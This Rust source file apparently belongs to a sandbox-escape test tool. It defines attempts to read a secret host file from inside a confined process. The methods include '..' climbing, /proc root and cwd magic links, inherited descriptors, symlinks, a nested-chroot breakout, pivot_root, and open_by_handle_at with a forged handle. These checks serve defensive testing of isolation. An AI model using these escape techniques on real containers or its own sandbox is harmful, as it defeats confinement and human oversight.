//! Ways to reach a file of the host by path.

use std::{
    fs::{self, File},
    io,
    os::{
        fd::{AsRawFd, OwnedFd},
        unix::fs::{chroot, symlink},
    },
    path::{Path, PathBuf},
};

use crate::{
    attempt::{Attempt, Family},
    call::{Argument, call, descriptor, open, text},
    child::result_in_child,
    facts::{Facts, visible_processes},
    scratch::{Scratch, leave_mount_namespace},
    verdict::{Outcome, escaped, held, not_permitted, refused},
};

pub(crate) const FAMILY: Family = Family {
    name: "paths",
    attempts: &[
        Attempt::new(
            "path-plain",
            "opens the host file by its absolute path; escaped when it contains the secret",
            |facts| reach(facts, [PathBuf::new()]),
        ),
        Attempt::new(
            "path-dot-dot",
            "resolves `..` above `/`; escaped when it reads the secret from the host file",
            |facts| reach(facts, [PathBuf::from(CLIMB)]),
        ),
        Attempt::new(
            "path-proc-self-root",
            "resolves `..` above `/proc/self/root` and `/proc/self/cwd`; escaped when it reads the secret from the host file",
            |facts| {
                reach(
                    facts,
                    ["root", "cwd"].map(|link| format!("/proc/self/{link}{CLIMB}").into()),
                )
            },
        ),
        Attempt::new(
            "path-proc-1-root",
            "opens the host file below `/proc/1/root`; escaped when it contains the secret",
            |facts| {
                reach(
                    facts,
                    ["/proc/1/root".into(), format!("/proc/1/root{CLIMB}").into()],
                )
            },
        ),
        Attempt::new(
            "path-proc-1-cwd",
            "resolves `..` from the working directory of pid 1; escaped when it reads the secret from the host file",
            |facts| reach(facts, [format!("/proc/1/cwd{CLIMB}").into()]),
        ),
        Attempt::new(
            "path-proc-host-pid-root",
            "opens the host file below the root of a host process; escaped when it contains the secret",
            |facts| {
                let pid = facts.number("host-pid")?;
                reach(
                    facts,
                    [
                        format!("/proc/{pid}/root").into(),
                        format!("/proc/{pid}/cwd{CLIMB}").into(),
                    ],
                )
            },
        ),
        Attempt::new(
            "path-proc-every-root",
            "opens the host file below the root of every visible process and thread; escaped when it contains the secret",
            every_root,
        ),
        Attempt::new(
            "path-proc-every-descriptor",
            "resolves `..` from every descriptor of every visible process; escaped when it reads the secret from the host file",
            every_descriptor,
        ),
        Attempt::new(
            "path-inherited-directory",
            "resolves `..` from inherited directory descriptors; escaped when it reads the secret from the host file",
            inherited_directory,
        ),
        Attempt::new(
            "path-symbolic-link",
            "follows symbolic links to the host file, plain and through `/proc` magic links; escaped when it reads the secret",
            symbolic_link,
        ),
        Attempt::new(
            "chroot-break-out",
            "leaves a nested `chroot` through an open directory above it; escaped when it reads the secret from the host file",
            |facts| break_out_of_root(facts, 0),
        ),
        Attempt::new(
            "chroot-break-out-in-user-namespace",
            "does the same with the capabilities of a nested user namespace; escaped when it reads the secret from the host file",
            |facts| break_out_of_root(facts, libc::CLONE_NEWUSER | libc::CLONE_NEWNS),
        ),
        Attempt::new(
            "pivot-root",
            "calls `pivot_root` in its mount namespace; escaped when the permission check passes",
            pivot_root,
        ),
        Attempt::new(
            "open-by-handle",
            "opens a file by a handle from `name_to_handle_at`; escaped when the permission check passes",
            open_by_handle,
        ),
        Attempt::new(
            "open-by-forged-handle",
            "opens inode 2 of the file system at `/` by a forged handle; escaped when the permission check passes",
            open_by_forged_handle,
        ),
    ],
};

/// Number of `..` components, more than any box is deep.
const CLIMB: &str = "/../../../../../../../../../../../../../../../..";

/// Opens the host file below each of `places`.
fn reach(facts: &Facts, places: impl IntoIterator<Item = PathBuf>) -> Outcome {
    let file = facts.text("host-file")?;
    let mut last = "no path to try".to_owned();
    let mut tried = 0;
    for place in places {
        let mut path = place.into_os_string();
        path.push(file);
        tried += 1;
        match fs::read(&path) {
            Ok(content) if facts.finds_secret(&content)? => {
                return escaped(format!("read the host file as {}", path.display()));
            }
            Ok(_) => last = format!("{} is another file", path.display()),
            Err(error) => last = error.to_string(),
        }
    }
    held(format!("{tried} paths failed; the last: {last}"))
}

fn every_root(facts: &Facts) -> Outcome {
    let mut places = Vec::new();
    for process in visible_processes()? {
        let threads = fs::read_dir(process.join("task"))
            .into_iter()
            .flatten()
            .flatten()
            .map(|entry| entry.path());
        for process in threads.chain([process.clone()]) {
            places.push(process.join("root"));
            places.push(format!("{}/cwd{CLIMB}", process.display()).into());
        }
    }
    reach(facts, places)
}

fn every_descriptor(facts: &Facts) -> Outcome {
    let mut places = Vec::new();
    for process in visible_processes()? {
        for entry in fs::read_dir(process.join("fd"))
            .into_iter()
            .flatten()
            .flatten()
        {
            places.push(format!("{}{CLIMB}", entry.path().display()).into());
        }
    }
    reach(facts, places)
}

fn inherited_directory(facts: &Facts) -> Outcome {
    reach(
        facts,
        facts
            .inherited
            .iter()
            .map(|number| format!("/proc/self/fd/{number}{CLIMB}").into()),
    )
}

fn symbolic_link(facts: &Facts) -> Outcome {
    let scratch = Scratch::new()?;
    let file = facts.text("host-file")?;
    let targets = [
        file.to_owned(),
        format!("/proc/self/root{CLIMB}{file}"),
        format!("/proc/1/root{file}"),
    ];
    for (number, target) in targets.iter().enumerate() {
        let link = scratch.name(&format!("link-{number}"));
        symlink(target, &link)?;
        if fs::read(&link).is_ok_and(|content| facts.finds_secret(&content).unwrap_or(false)) {
            return escaped(format!("read the host file through a link to {target}"));
        }
    }
    held("no link resolved to the host file")
}

fn break_out_of_root(facts: &Facts, namespaces: i32) -> Outcome {
    facts.text("secret")?;
    let host_file = facts.path("host-file")?;
    let scratch = Scratch::new()?;
    let lower = scratch.directory("lower")?;
    let read = result_in_child(|| {
        let root = OwnedFd::from(File::open("/")?);
        if namespaces != 0 {
            call!(SYS_unshare, namespaces)?;
        }
        chroot(&lower)?;
        call!(SYS_fchdir, &root)?;
        for _ in 0..64 {
            call!(SYS_chdir, c"..")?;
        }
        chroot(".")?;
        let content = fs::read(host_file)?;
        let found = facts.finds_secret(&content).unwrap_or(false);
        if found {
            Ok(())
        } else {
            Err(io::Error::from_raw_os_error(libc::ENOENT))
        }
    })?;
    refused(read, "read the host file from above the root")
}

fn pivot_root(_: &Facts) -> Outcome {
    let scratch = Scratch::new()?;
    let root = scratch.directory("root")?;
    let pivoted = result_in_child(|| {
        leave_mount_namespace()?;
        let root = text(&root)?;
        // `pivot_root` needs a mount point. A failure here is ignored: `pivot_root` decides.
        let _ = call!(
            SYS_mount,
            &root,
            &root,
            Argument::NULL,
            libc::MS_BIND,
            Argument::NULL
        );
        call!(SYS_chdir, &root)?;
        call!(SYS_pivot_root, c".", c".")
    })?;
    not_permitted(pivoted, "pivot_root permitted")
}

/// `struct file_handle` with room for the largest handle.
#[repr(C)]
struct FileHandle {
    length: u32,
    kind: i32,
    bytes: [u8; 128],
}

fn open_by_handle(_: &Facts) -> Outcome {
    let scratch = Scratch::new()?;
    let path = scratch.file("file", b"")?;
    let mut handle = FileHandle {
        length: 128,
        kind: 0,
        bytes: [0; 128],
    };
    let mut mount = 0_i32;
    let file = text(&path)?;
    let named = call!(
        SYS_name_to_handle_at,
        libc::AT_FDCWD,
        &file,
        Argument::write(&mut handle),
        Argument::write(&mut mount),
        0
    );
    // Some file systems export no handles. A forged one reaches the same permission check.
    if named.is_err() {
        handle = forged_handle();
    }
    open_handle(&path, &handle)
}

fn open_by_forged_handle(_: &Facts) -> Outcome {
    open_handle(Path::new("/"), &forged_handle())
}

/// Returns a handle for inode 2, the root on many file systems, of generation 0.
fn forged_handle() -> FileHandle {
    let mut bytes = [0; 128];
    bytes[0] = 2;
    FileHandle {
        length: 8,
        kind: 1,
        bytes,
    }
}

fn open_handle(mount: &Path, handle: &FileHandle) -> Outcome {
    let mount = open(mount, libc::O_RDONLY)?;
    let opened = descriptor(call!(
        SYS_open_by_handle_at,
        mount.as_raw_fd(),
        Argument::read(handle),
        libc::O_RDONLY
    ));
    not_permitted(
        opened,
        "open_by_handle_at permitted, which skips the checks of parent directories",
    )
}
